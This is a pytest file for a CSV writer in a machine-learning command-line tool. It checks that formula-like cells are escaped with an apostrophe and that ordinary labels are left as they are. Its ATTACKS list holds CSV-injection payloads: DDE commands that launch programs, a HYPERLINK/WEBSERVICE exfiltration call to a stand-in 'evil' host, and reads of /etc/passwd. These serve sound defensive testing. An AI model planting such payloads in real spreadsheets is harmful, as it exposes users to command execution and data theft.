"""Predictions as CSV: no cell is a formula for a spreadsheet, and labels stay what they are."""

import csv
import io

import numpy as np
import pytest

from separatrix.workflow.csv_text import CsvText, is_formula

# Known attacks: OWASP's page on CSV injection and its variants.
ATTACKS = (
    '=HYPERLINK("http://evil?x="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+WEBSERVICE("http://evil")',
    "='file:///etc/passwd'#$passwd.A1",
    "+'file:///etc/passwd'#$passwd.A1",
    "-[book.xlsx]Sheet1!$A$1",
    "+cmd|'/C calc'!'A1'",
    "-'http://evil/[x.xlsx]S'!'n'",
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(A1)",
    " \u200b=1+1",
    "＝1+1",
    "＋HYPERLINK(A1)",
)
HARMLESS = (
    "",
    "+",
    "-",
    "=",
    "@",
    "-1.5",
    "+1e5",
    "-1 to 5",
    "+49 (0)30 1234",
    "@ann",
    "@ann well done!",
    "- none",
    "--",
    "->",
    ">50K",
    "<=50K",
    "a=b",
    "f(x)",
    "x!",
    "'quoted",
    "größer",
    "-∞",
)


@pytest.mark.parametrize("cell", ATTACKS, ids=ascii)
def test_what_a_spreadsheet_runs_is_a_formula(cell):
    assert is_formula(cell)


@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_labels_and_numbers_are_no_formulas(cell):
    assert not is_formula(cell)


def written(raw=False):
    file = io.StringIO(newline="")
    text = CsvText(file, raw=raw)
    text.write_names(["=A1", "x"])
    text.write_columns([[*ATTACKS, *HARMLESS], [-1.5] * (len(ATTACKS) + len(HARMLESS))])
    return text.marked, list(csv.reader(io.StringIO(file.getvalue(), newline="")))


def test_only_formulas_get_an_apostrophe():
    marked, rows = written()
    assert marked == len(ATTACKS) + 1
    assert rows[0] == ["'=A1", "x"]
    assert [row[0][0] for row in rows[1 : len(ATTACKS) + 1]] == ["'"] * len(ATTACKS)
    # An end of line or a tab within a cell may begin another cell, which then has its own apostrophe.
    once = [cell.replace("\t=", "\t'=").replace("\r=", "\r'=").replace("\n@", "\n'@") for cell in ATTACKS]
    assert [row[0] for row in rows[1:]] == [*(f"'{cell}" for cell in once), *HARMLESS]
    assert {row[1] for row in rows[1:]} == {"-1.5"}


@pytest.mark.parametrize(
    "cell, text",
    [
        ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"),
        ("x\n=1+1;", "x\n'=1+1;"),
        ("a\t+SUM(A1)", "a\t'+SUM(A1)"),
        ("=1;=2", "'=1;'=2"),
        ("-1;-2; @ann; x = y", "-1;-2; @ann; x = y"),
    ],
    ids=ascii,
)
def test_no_part_is_a_formula_where_a_spreadsheet_cuts_at_its_own_separators(cell, text):
    file = io.StringIO(newline="")
    CsvText(file).write_columns([[cell]])
    assert next(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [text]


def test_the_raw_form_is_what_was_given():
    marked, rows = written(raw=True)
    assert marked == 0
    assert [row[0] for row in rows[1:]] == [*ATTACKS, *HARMLESS]


def test_on_a_terminal_cells_are_shown_and_not_obeyed():
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    file = Terminal()
    CsvText(file).write_columns([["a\x1b[31m\u202e"]])
    assert file.getvalue() == "a\\x1b[31m\\u202e\n"


@pytest.mark.parametrize("labels", [("+", "-"), ("=0", ">0")])
def test_predictions_join_with_the_labels_of_the_table(tmp_path, labels):
    """+ and - stay what they are; a label that begins with = is one that --raw is for."""
    from click.testing import CliRunner

    from separatrix.cli.main import main

    x = np.linspace(-2, 2, 40)
    rows = [(f"@id{i}", value, labels[int(value > 0)]) for i, value in enumerate(x)]
    table, model, out = tmp_path / "t.csv", tmp_path / "m.sepx", tmp_path / "out.csv"
    table.write_text("id,x,y\n" + "".join(f"{a},{b},{c}\n" for a, b, c in rows))
    run = CliRunner().invoke(main, ["fit", str(table), "-t", "y", "-f", "nearest class mean", "-o", str(model)])
    assert run.exit_code == 0, run.output
    raw = ["--raw"] if "=0" in labels else []
    run = CliRunner().invoke(main, ["predict", str(model), str(table), "--keep", "id", "-o", str(out), *raw])
    assert run.exit_code == 0, run.output
    assert "apostrophe" not in run.stderr
    with open(out, newline="") as file:
        answers = list(csv.DictReader(file))
    assert [answer["id"] for answer in answers] == [row[0] for row in rows]
    assert {answer["prediction"] for answer in answers} == set(labels)


def test_the_command_says_that_cells_were_marked(tmp_path):
    from click.testing import CliRunner

    from separatrix.cli.main import main

    table, model = tmp_path / "t.csv", tmp_path / "m.sepx"
    table.write_text("name,x,y\n" + "".join(f'"=HYPERLINK(""u{i}"")",{i},{"ab"[i > 9]}\n' for i in range(20)))
    CliRunner().invoke(main, ["fit", str(table), "-t", "y", "-f", "nearest class mean", "-o", str(model)])
    plain = CliRunner().invoke(main, ["predict", str(model), str(table), "--keep", "name"])
    raw = CliRunner().invoke(main, ["predict", str(model), str(table), "--keep", "name", "--raw"])
    document = CliRunner().invoke(main, ["predict", str(model), str(table), "--keep", "name", "--json"])
    assert all(line.startswith("\"'=HYPERLINK") for line in plain.stdout.splitlines()[1:])
    assert "20 cells begin like a formula and got an apostrophe in front; --raw leaves it out." in plain.stderr
    assert all(line.startswith('"=HYPERLINK') for line in raw.stdout.splitlines()[1:])
    assert raw.stderr == ""
    assert "'=HYPERLINK" not in document.stdout
